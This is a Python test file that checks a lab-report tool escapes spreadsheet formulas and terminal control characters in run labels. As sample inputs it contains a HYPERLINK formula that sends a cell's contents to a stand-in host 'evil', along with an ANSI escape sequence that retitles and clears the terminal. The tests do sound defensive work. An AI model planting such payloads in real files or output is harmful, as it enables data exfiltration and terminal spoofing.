"""What a lab database someone sent cannot do through lrkit's report: run a formula in a spreadsheet that
opens runs.csv / epochs.csv, or drive the terminal that shows lab.md's text (control characters)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lrkit.lab import report
from lrkit.lab.runner import LabResult

from .test_report import make_run

ESC, BEL = chr(27), chr(7)
FORMULAS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", chr(9) + "x"]


def _lab(label: str) -> LabResult:
    return LabResult("t", 1, [make_run(label, 0, 0.5), make_run("ok", 0, 0.6)], ":memory:", "x", "m", True, 5)


@pytest.mark.parametrize("label", FORMULAS)
def test_a_label_a_spreadsheet_would_run_is_written_as_text(label: str, tmp_path: Path) -> None:
    runs_csv, epochs_csv = report.write_csv(_lab(label), tmp_path)
    for path in (runs_csv, epochs_csv):
        with path.open(newline="", encoding="utf-8") as f:
            cells = [row["label"] for row in csv.DictReader(f)]
        assert "'" + label in cells and "ok" in cells
        assert not [c for c in cells if c.startswith(report._FORMULA_START)]


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=30))
def test_no_control_character_reaches_the_terminal_and_lab_md_reads_back(text: str) -> None:
    shown = report.plain_markdown(report.escape_markdown(text))
    assert not [c for c in shown if ord(c) < 32 or 0x7F <= ord(c) <= 0x9F], repr(shown)
    if text.isprintable():
        assert shown == text  # printable text reads back exactly, as before


def test_an_ansi_label_is_shown_escaped_in_the_console_text() -> None:
    label = f"A{ESC}]0;pwned{BEL}{ESC}[2J{ESC}[31mRED"
    text = report.plain_markdown(report.markdown_table(_lab(label)))
    assert ESC not in text and BEL not in text
    assert "A\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mRED" in text
